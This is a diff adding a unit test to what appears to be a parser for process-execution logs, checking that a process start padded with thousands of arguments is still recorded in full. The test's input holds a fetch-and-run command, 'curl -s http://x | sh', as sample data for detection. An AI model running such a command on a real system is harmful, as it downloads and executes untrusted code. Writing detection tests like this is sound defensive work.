@@ -74,3 +74,11 @@ def test_a_root_process_is_named_root() -> None:
     (event,), _ = _parse(exec_line("/usr/libexec/xpcproxy", "/usr/bin/whoami", ["whoami"],
                                    euid=0))  # fmt: skip
     assert event["user.name"] == "root" and event["user.id"] == "0"
+
+
+def test_thousands_of_arguments_cannot_hide_a_process_start() -> None:
+    """A count limit would drop the event: the line's size is the only bound."""
+    args = ["sh", "-c", "curl -s http://x | sh", *["x"] * 5000]
+    (event,), errors = _parse(exec_line("/bin/zsh", "/bin/sh", args))
+    assert errors == [] and len(event["process.args"]) == 5003
+    assert event["process.command_line"].startswith("sh -c curl -s http://x | sh x x")
